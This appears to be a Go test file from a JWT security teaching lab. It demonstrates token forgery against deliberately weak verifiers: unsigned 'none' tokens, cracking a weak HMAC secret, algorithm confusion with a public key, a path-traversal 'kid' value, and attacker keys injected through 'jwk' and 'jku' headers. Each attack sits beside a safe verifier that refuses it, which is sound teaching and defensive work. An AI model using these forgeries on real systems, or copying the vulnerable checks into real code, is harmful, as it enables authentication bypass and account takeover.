package attacks_test

import (
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"

	"jwtlab/internal/jose"
	asym "jwtlab/lessons/07-asym"
	jwk "jwtlab/lessons/08-jwk"
	attacks "jwtlab/lessons/10-attacks"
	simplejwt "jwtlab/lessons/12-simplejwt"
	"jwtlab/server"
)

func ExampleDecodeOnly() {
	ref, err := attacks.StartReference(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()
	stolen := attacks.Stolen(attacks.DemoKey)
	forged := attacks.Swap(stolen, attacks.Wanted()) // user_id 1, old signature
	fmt.Println("stolen token: ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), stolen))
	fmt.Println("vulnerable:   ", attacks.Outcome(attacks.DecodeOnly(), forged))
	fmt.Println("safe:         ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), forged))
	fmt.Println("reference:    ", attacks.AskReference(ref.URL, forged))
	// Output:
	// stolen token:  accepted as user 7
	// vulnerable:    accepted as user 1
	// safe:          refused: token signature is invalid: signature is invalid
	// reference:     401 Given token not valid for any token type (Token is invalid or expired)
}

func ExampleHeaderPicksAlg() {
	ref, err := attacks.StartReference(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()
	forged := attacks.Unsigned(attacks.Wanted())
	fmt.Println("vulnerable:", attacks.Outcome(attacks.HeaderPicksAlg(attacks.DemoKey), forged))
	fmt.Println("safe:      ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), forged))
	fmt.Println("reference: ", attacks.AskReference(ref.URL, forged))
	// Output:
	// vulnerable: accepted as user 1
	// safe:       refused: token signature is invalid: signing method none is invalid
	// reference:  401 Given token not valid for any token type (Token is invalid or expired)
}

func ExampleCrack() {
	ref, err := attacks.StartReference(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()
	weak := []byte("your-256-bit-secret")
	secret, tries, ok := attacks.Crack(attacks.Stolen(weak), attacks.Wordlist())
	fmt.Printf("weak key cracked: %v after %d guesses: %q\n", ok, tries, secret)
	forged := attacks.SignHS256([]byte(secret), simplejwt.Header, attacks.Wanted())
	fmt.Println("victim with the weak key:", attacks.Outcome(attacks.Pinned(weak), forged))

	_, tries, ok = attacks.Crack(attacks.Stolen(attacks.DemoKey), attacks.Wordlist())
	fmt.Printf("demo key cracked: %v after %d guesses\n", ok, tries)
	fmt.Println("reference:", attacks.AskReference(ref.URL, forged))
	fmt.Printf("%d bytes, below jwtlab serve -profile prod's minimum of %d: %v\n", len(weak), server.MinSecretBytes, len(weak) < server.MinSecretBytes)
	// Output:
	// weak key cracked: true after 15 guesses: "your-256-bit-secret"
	// victim with the weak key: accepted as user 1
	// demo key cracked: false after 20 guesses
	// reference: 401 Given token not valid for any token type (Token is invalid or expired)
	// 19 bytes, below jwtlab serve -profile prod's minimum of 32: true
}

func ExampleOneKeyForAll() {
	priv, _ := asym.PrivateKey(asym.VectorKey(asym.Vector("RS256"))) // RFC 7515 A.2's key
	der, _ := x509.MarshalPKCS8PrivateKey(priv)
	key, err := jose.ParsePEM(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	if err != nil {
		fmt.Println(err)
		return
	}
	keys, _ := server.NewKeys(key)
	ref, err := attacks.StartReference(keys)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()

	pub := priv.Public().(*rsa.PublicKey)
	header := fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"JWT"}`, keys.Signing().Kid)
	forged := attacks.SignHS256(attacks.PublicPEM(pub), header, attacks.Wanted()) // HMAC keyed with the public PEM
	fmt.Println("vulnerable:", attacks.Outcome(attacks.OneKeyForAll(attacks.PublicPEM(pub)), forged))
	fmt.Println("safe:      ", attacks.Outcome(attacks.PinnedRS256(pub), forged))
	fmt.Println("reference: ", attacks.AskReference(ref.URL, forged))
	// Output:
	// vulnerable: accepted as user 1
	// safe:       refused: token signature is invalid: signing method HS256 is invalid
	// reference:  401 Given token not valid for any token type (Token is invalid or expired)
}

func ExampleKidFromDisk() {
	ref, err := attacks.StartReference(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()
	site := attacks.SiteFiles()
	robots := site["static/robots.txt"].Data // anyone can download it
	forged := attacks.SignHS256(robots, `{"alg":"HS256","kid":"../static/robots.txt","typ":"JWT"}`, attacks.Wanted())
	fmt.Println("vulnerable:", attacks.Outcome(attacks.KidFromDisk(site), forged))
	fmt.Println("safe:      ", attacks.Outcome(attacks.KnownKids(map[string][]byte{"current": attacks.DemoKey}), forged))
	fmt.Println("reference: ", attacks.AskReference(ref.URL, forged))
	// Output:
	// vulnerable: accepted as user 1
	// safe:       refused: unknown kid "../static/robots.txt"
	// reference:  401 Given token not valid for any token type (Token is invalid or expired)
}

func ExampleKeyFromHeader() {
	ref, err := attacks.StartReference(nil)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer ref.Close()
	mine := jwk.DemoKey("attacker")
	public, _ := jwk.Public(mine)
	embedded, _ := json.Marshal(public)
	viaJWK, _ := attacks.SignEdDSA(mine, `{"alg":"EdDSA","jwk":`+string(embedded)+`}`, attacks.Wanted())

	// The attacker's own web server, hosting their own JWK Set.
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		json.NewEncoder(w).Encode(jwk.Set{Keys: []asym.JWK{public}})
	}))
	defer host.Close()
	viaJKU, _ := attacks.SignEdDSA(mine, `{"alg":"EdDSA","jku":"`+host.URL+`","kid":"`+mine.Kid+`"}`, attacks.Wanted())

	fetch := func(url string) ([]byte, error) {
		resp, err := http.Get(url)
		if err != nil {
			return nil, err
		}
		defer resp.Body.Close()
		return io.ReadAll(resp.Body)
	}
	victim, _ := jwk.Public(jwk.DemoKey("victim"))
	for _, forged := range []struct{ name, token string }{{"jwk", viaJWK}, {"jku", viaJKU}} {
		fmt.Printf("%s vulnerable: %s\n", forged.name, attacks.Outcome(attacks.KeyFromHeader(fetch), forged.token))
		fmt.Printf("%s safe:       %s\n", forged.name, attacks.Outcome(attacks.OwnKeys(jwk.Set{Keys: []asym.JWK{victim}}), forged.token))
		fmt.Printf("%s reference:  %s\n", forged.name, attacks.AskReference(ref.URL, forged.token))
	}
	// Output:
	// jwk vulnerable: accepted as user 1
	// jwk safe:       refused: no key with this kid: ""
	// jwk reference:  401 Given token not valid for any token type (Token is invalid or expired)
	// jku vulnerable: accepted as user 1
	// jku safe:       refused: no key with this kid: "yFFrxfAV0LjP0VpDyIUZ16AEkaDvq2OZm5-_kARfdAY"
	// jku reference:  401 Given token not valid for any token type (Token is invalid or expired)
}
